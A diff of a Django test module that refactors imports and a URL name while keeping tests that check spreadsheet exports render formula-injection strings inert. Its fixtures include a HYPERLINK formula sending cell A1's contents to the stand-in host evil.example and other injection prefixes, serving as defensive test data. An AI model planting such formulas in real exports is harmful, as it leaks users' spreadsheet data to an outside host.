@@ -12,13 +12,14 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from tests.reporting.conftest import by_level, count, make_indicator, monthly_form  # noqa: F401
+from tests.values.conftest import by_level, count, make_indicator, monthly_form  # noqa: F401
 from tuyengiao.orgunits.exporting import orgunits_export
 from tuyengiao.orgunits.models import OrgUnit
 from tuyengiao.reporting.files import template_csv, template_xlsx
-from tuyengiao.reporting.models import FormItem, FormSection, ValueType
-from tuyengiao.reporting.services import CellKey, datavalue_save
+from tuyengiao.reporting.models import FormItem, FormSection
 from tuyengiao.tabular.writing import XlsxSheet, csv_bytes, csv_cell, xlsx_bytes
+from tuyengiao.values.models import ValueType
+from tuyengiao.values.services import CellKey, datavalue_save
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 EVIL_TEXTS = (EVIL_NAME, "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")
@@ -111,7 +112,7 @@ def test_dashboard_table_is_inert(client, province_admin, tree, count):  # noqa:
     OrgUnit.objects.filter(pk=tree.commune_a.pk).update(name=EVIL_NAME)
     client.force_login(province_admin)
     query = {"unit": tree.province.pk, "indicator": count.code}
-    cells = xlsx_cells(client.get(reverse("reporting:table_xlsx"), query).content)
+    cells = xlsx_cells(client.get(reverse("dashboards:table_xlsx"), query).content)
     assert [c.data_type for c in cells if c.value == EVIL_NAME] == ["s"]
 
 
